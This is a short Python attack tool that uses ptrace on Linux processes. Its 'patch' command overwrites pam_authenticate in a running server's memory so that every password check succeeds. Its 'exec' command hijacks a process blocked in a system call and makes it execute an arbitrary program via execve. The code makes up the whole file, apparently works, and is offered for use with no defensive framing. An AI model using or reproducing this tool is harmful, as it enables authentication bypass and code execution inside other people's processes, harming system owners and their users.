"""ptrace: into a server before it asks for a password, and into somebody else's program.

    tracer.py patch PID          from now on pam_authenticate() of that process says yes
    tracer.py exec PID ARG...    that process, blocked in a system call, becomes this program (x86-64)
"""
import ctypes
import os
import platform
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
LIBC.ptrace.restype = ctypes.c_long
ATTACH, DETACH, GETREGS, SETREGS = 16, 17, 12, 13
YES = {"x86_64": bytes.fromhex("31c0c3"), "aarch64": bytes.fromhex("00008052c0035fd6")}


def ptrace(request, pid, addr=None, data=None):
    if LIBC.ptrace(request, pid, addr, data) < 0:
        raise OSError(ctypes.get_errno(), "ptrace %d" % request)


def base(pid, name):
    with open("/proc/%s/maps" % pid) as f:
        return min(int(line.split("-")[0], 16) for line in f if name in line)


def attach(pid):
    ptrace(ATTACH, pid)
    os.waitpid(pid, 0)
    return open("/proc/%d/mem" % pid, "r+b", buffering=0)


def patch(pid):
    pam = ctypes.CDLL("libpam.so.0")
    at = ctypes.cast(pam.pam_authenticate, ctypes.c_void_p).value - base("self", "/libpam.so")
    with attach(int(pid)) as memory:
        memory.seek(base(pid, "/libpam.so") + at)
        memory.write(YES[platform.machine()])
    ptrace(DETACH, int(pid))


def become(pid, *argv):
    pid = int(pid)
    regs = (ctypes.c_ulonglong * 27)()  # struct user_regs_struct
    with attach(pid) as memory:
        ptrace(GETREGS, pid, None, ctypes.addressof(regs))
        at = (regs[19] - 4096) & ~15  # below its stack pointer
        text = b"".join(a.encode() + b"\0" for a in argv)
        where, pointers = at + 512, []
        for a in argv:
            pointers.append(where)
            where += len(a.encode()) + 1
        memory.seek(at)
        memory.write(struct.pack("<%dQ" % (len(argv) + 1), *pointers, 0))
        memory.seek(at + 512)
        memory.write(text)
    # rax = execve, orig_rax = no restart, rip = the instruction that it is blocked in
    regs[10], regs[15], regs[16] = 59, (1 << 64) - 1, regs[16] - 2
    regs[14], regs[13], regs[12] = pointers[0], at, 0
    ptrace(SETREGS, pid, None, ctypes.addressof(regs))
    ptrace(DETACH, pid)


{"patch": patch, "exec": become}[sys.argv[1]](*sys.argv[2:])
print("done", flush=True)
